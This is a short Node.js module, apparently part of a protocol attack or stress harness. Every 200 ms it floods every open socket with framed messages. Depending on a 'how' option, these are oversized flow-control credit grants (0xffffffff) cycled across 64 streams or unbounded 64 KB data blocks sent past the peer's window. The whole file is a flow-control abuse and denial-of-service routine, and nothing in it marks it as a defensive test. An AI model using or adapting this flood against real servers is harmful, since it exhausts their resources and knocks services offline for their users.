// Answers without end for streams that have no window left, and credit for bytes that never came.
const { flood, frame, sockets } = require('../tried.js');

const credit = Buffer.from([0xff, 0xff, 0xff, 0xff]);
const block = Buffer.alloc(65_536, 'x');
module.exports = ({ how }) => {
  setInterval(() => {
    for (const fd of sockets()) {
      let stream = 0;
      flood(fd, () => {
        stream = (stream % 64) + 1;
        return how === 'credit' ? frame(10, 0, stream, credit) : frame(14, 0, 1, block);
      });
    }
  }, 200);
};
